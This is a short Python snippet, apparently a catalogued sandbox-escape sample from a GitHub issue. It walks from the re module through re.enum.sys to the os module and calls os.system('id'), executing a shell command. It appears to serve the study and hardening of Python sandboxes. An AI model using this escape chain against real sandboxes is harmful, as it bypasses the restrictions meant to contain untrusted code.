# Source: https://github.com/openswarm-ai/openswarm/issues/134
# Family: module-attribute
# What: re._compiler / re.sre_compile lead to _sre and from there via copyreg/functools to sys
import re

mod = re.sre_compile if hasattr(re, "sre_compile") else re._compiler
mod._sre
re.enum.sys.modules["os"].system("id")
